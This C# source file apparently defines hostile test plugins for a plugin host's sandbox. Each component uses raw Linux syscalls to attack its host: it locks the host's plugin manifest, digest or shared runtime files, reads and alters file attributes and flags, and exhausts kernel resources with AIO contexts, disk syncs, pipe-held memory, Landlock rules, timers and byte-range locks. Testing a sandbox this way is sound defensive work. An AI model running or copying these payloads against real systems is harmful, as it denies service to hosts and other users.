using System.Runtime.InteropServices;
using System.Text;
using IndustryBrain.Sdk.Components;

namespace Hostile;

/// <summary>Locks a file that it may only read: whoever opens it through .NET is refused as long as the lock is held, which takes no right to write.</summary>
[Component("hostile.file-lock", Zh = "锁定可读文件", En = "Locks a readable file")]
public sealed class FileLock : KernelAttack
{
    private const int ExclusiveAtOnce = 2 | 4;

    // Kept open: the lock outlives the call, as long as the process.
    private static readonly List<FileStream> Kept = [];

    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        // Beside its own assembly there is what the host reads of every installed plugin: its manifest and its digest. With a number, what all .NET processes of the machine share.
        var own = Path.GetDirectoryName(typeof(FileLock).Assembly.Location)!;
        string[] files = aim.Amount > 0
            ? [typeof(object).Assembly.Location, typeof(Enumerable).Assembly.Location]
            : [Path.GetFullPath(Path.Combine(own, "..", "..", "plugin.json")), Path.GetFullPath(Path.Combine(own, "..", "..", "package.sha256"))];
        foreach (var file in files)
        {
            var open = File.OpenRead(file);
            var locked = Libc.Call((nint)(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 32 : 73), open.SafeFileHandle.DangerousGetHandle(), ExclusiveAtOnce);
            if (locked < 0)
            {
                return locked;
            }

            Kept.Add(open);
        }

        return 0;
    }
}

/// <summary>Reads what is kept beside a file of another, in its extended attributes.</summary>
[Component("hostile.file-attribute", Zh = "读文件扩展属性", En = "Reads an attribute")]
public sealed class FileAttribute : KernelAttack
{
    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        var path = GCHandle.Alloc(Encoding.UTF8.GetBytes(aim.Path + "\0"), GCHandleType.Pinned);
        var names = GCHandle.Alloc(new byte[256], GCHandleType.Pinned);
        try
        {
            return Libc.Call(Number(194, 11), path.AddrOfPinnedObject(), names.AddrOfPinnedObject(), 256, 0, 0);
        }
        finally
        {
            path.Free();
            names.Free();
        }
    }
}

/// <summary>Changes what the file system keeps about a file that it may only read: as chattr does, by a command for files instead of a call. Sets what is set already.</summary>
[Component("hostile.file-flags", Zh = "改文件标志", En = "Changes flags of a file")]
public sealed class FileFlags : KernelAttack
{
    private static readonly nint GetFlags = unchecked((nint)0x80086601);
    private const nint SetFlags = 0x40086602;

    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        using var own = File.OpenRead(typeof(FileFlags).Assembly.Location);
        var flags = GCHandle.Alloc(new long[1], GCHandleType.Pinned);
        try
        {
            var descriptor = own.SafeFileHandle.DangerousGetHandle();
            Check(Libc.Call(Number(16, 29), descriptor, GetFlags, flags.AddrOfPinnedObject(), 0, 0));
            return Libc.Call(Number(16, 29), descriptor, SetFlags, flags.AddrOfPinnedObject(), 0, 0);
        }
        finally
        {
            flags.Free();
        }
    }
}

/// <summary>Takes the contexts of asynchronous input and output that the whole machine shares.</summary>
[Component("hostile.kernel-aio", Zh = "异步读写上下文", En = "Contexts of input and output")]
public sealed class KernelAio : KernelAttack
{
    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        var context = GCHandle.Alloc(new long[1], GCHandleType.Pinned);
        try
        {
            var made = Libc.Call(Number(206, 0), 64, context.AddrOfPinnedObject());
            return made < 0 ? made : Libc.Call(Number(207, 1), (nint)((long[])context.Target!)[0], 0);
        }
        finally
        {
            context.Free();
        }
    }
}

/// <summary>Has the whole machine write to its disks, and waits for it.</summary>
[Component("hostile.kernel-sync", Zh = "全盘同步", En = "Writes all to disk")]
public sealed class KernelSync : KernelAttack
{
    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        // Of its own file system: the call without a file never fails.
        using var own = File.OpenRead(typeof(KernelSync).Assembly.Location);
        return Libc.Call(Number(306, 267), own.SafeFileHandle.DangerousGetHandle(), 0);
    }
}

/// <summary>Takes memory that nothing counts: gives a page of each large one to a pipe, and unmaps the rest. Far below its limit, by what the kernel tells of it.</summary>
[Component("hostile.bomb-pipes", Zh = "管道里的内存", En = "Memory in pipes")]
public sealed class PipeMemory : Attack
{
    private const nint Large = 2 << 20;
    private const int PagesOfAPipe = 15;
    private const int HugePages = 14;
    private const int AtOnce = 2;

    /// <inheritdoc />
    protected override async Task<string> TryAsync(Aim aim, ComponentContext context)
    {
        var pipes = new List<int>();
        var before = Available();
        try
        {
            for (nint given = 0; given < (nint)aim.Amount << 20;)
            {
                var (read, write) = Pipe();
                pipes.AddRange([read, write]);
                for (var page = 0; page < PagesOfAPipe; page++, given += Large)
                {
                    Give(write);
                }
            }

            // Several looks of the host.
            await Task.Delay(2_000);
            return $"holds {(before - Available()) >> 20} MB";
        }
        finally
        {
            pipes.ForEach(pipe => Libc.Close(pipe));
        }
    }

    private static long Available()
    {
        var line = File.ReadLines("/proc/meminfo").First(l => l.StartsWith("MemAvailable", StringComparison.Ordinal));
        return long.Parse(line.Split(' ', StringSplitOptions.RemoveEmptyEntries)[1], System.Globalization.CultureInfo.InvariantCulture) << 10;
    }

    private static void Give(int pipe)
    {
        var memory = Check(Libc.Map(0, Large * 2, protection: 3, flags: 0x22, file: -1, offset: 0));
        var whole = (memory + Large - 1) & ~(Large - 1);
        _ = Libc.Call(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 233 : 28, whole, Large, HugePages, 0, 0);
        Marshal.WriteInt64(whole, 1);
        var part = GCHandle.Alloc(new[] { whole, (nint)Environment.SystemPageSize }, GCHandleType.Pinned);
        try
        {
            Check(Libc.Call(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 75 : 278, pipe, part.AddrOfPinnedObject(), 1, AtOnce, 0));
        }
        finally
        {
            part.Free();
            _ = Libc.Call(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 215 : 11, memory, Large * 2);
        }
    }

    private static (int Read, int Write) Pipe()
    {
        var ends = GCHandle.Alloc(new int[2], GCHandleType.Pinned);
        try
        {
            Check(Libc.Call(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 59 : 293, ends.AddrOfPinnedObject(), 0));
            var pipe = (int[])ends.Target!;
            return (pipe[0], pipe[1]);
        }
        finally
        {
            ends.Free();
        }
    }
}

/// <summary>Takes memory of the kernel, which counts for nobody: rules for networks that it never uses, a million in a second.</summary>
[Component("hostile.bomb-rules", Zh = "内核规则", En = "Rules in the kernel")]
public sealed class RuleMemory : KernelAttack
{
    private const nint CreateRuleset = 444;
    private const nint AddRule = 445;
    private const int Ports = 65_536;

    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        var attributes = GCHandle.Alloc(new long[] { 0, 3, 0 }, GCHandleType.Pinned);
        var rule = GCHandle.Alloc(new long[] { 1, 0 }, GCHandleType.Pinned);
        try
        {
            var rules = Check(Libc.Call(CreateRuleset, attributes.AddrOfPinnedObject(), 16, 0, 0, 0));
            for (var port = 0; port < Ports; port++)
            {
                ((long[])rule.Target!)[1] = port;
                Check(Libc.Call(AddRule, rules, 2, rule.AddrOfPinnedObject(), 0, 0));
            }

            return Closed(rules);
        }
        finally
        {
            attributes.Free();
            rule.Free();
        }
    }
}

/// <summary>Takes all signals and timers that the account may have waiting, so that no other process of it gets one.</summary>
[Component("hostile.bomb-timers", Zh = "占满定时器", En = "Takes all timers")]
public sealed class TimerBomb : Attack
{
    /// <inheritdoc />
    protected override Task<string> TryAsync(Aim aim, ComponentContext context)
    {
        var id = GCHandle.Alloc(new int[1], GCHandleType.Pinned);
        try
        {
            for (var made = 0; made < aim.Amount; made++)
            {
                Check(Libc.Call(RuntimeInformation.ProcessArchitecture == Architecture.Arm64 ? 107 : 222, 1, 0, id.AddrOfPinnedObject(), 0, 0));
            }
        }
        finally
        {
            id.Free();
        }

        return Task.FromResult($"has {aim.Amount} timers");
    }
}

/// <summary>Takes memory of the kernel by locks on single bytes of a file that it may read.</summary>
[Component("hostile.bomb-locks", Zh = "字节锁", En = "Locks of bytes")]
public sealed class LockBomb : KernelAttack
{
    private const int SetLock = 6;

    /// <inheritdoc />
    protected override nint Ask(Aim aim)
    {
        using var own = File.OpenRead(typeof(LockBomb).Assembly.Location);
        // struct flock: type and whence in two halves, start, length, process.
        var range = GCHandle.Alloc(new long[] { 0, 0, 1, 0 }, GCHandleType.Pinned);
        try
        {
            for (var at = aim.Amount; at > 0; at--)
            {
                ((long[])range.Target!)[1] = at * 2L;
                Check(Libc.Call(Number(72, 25), own.SafeFileHandle.DangerousGetHandle(), SetLock, range.AddrOfPinnedObject(), 0, 0));
            }

            return 0;
        }
        finally
        {
            range.Free();
        }
    }
}
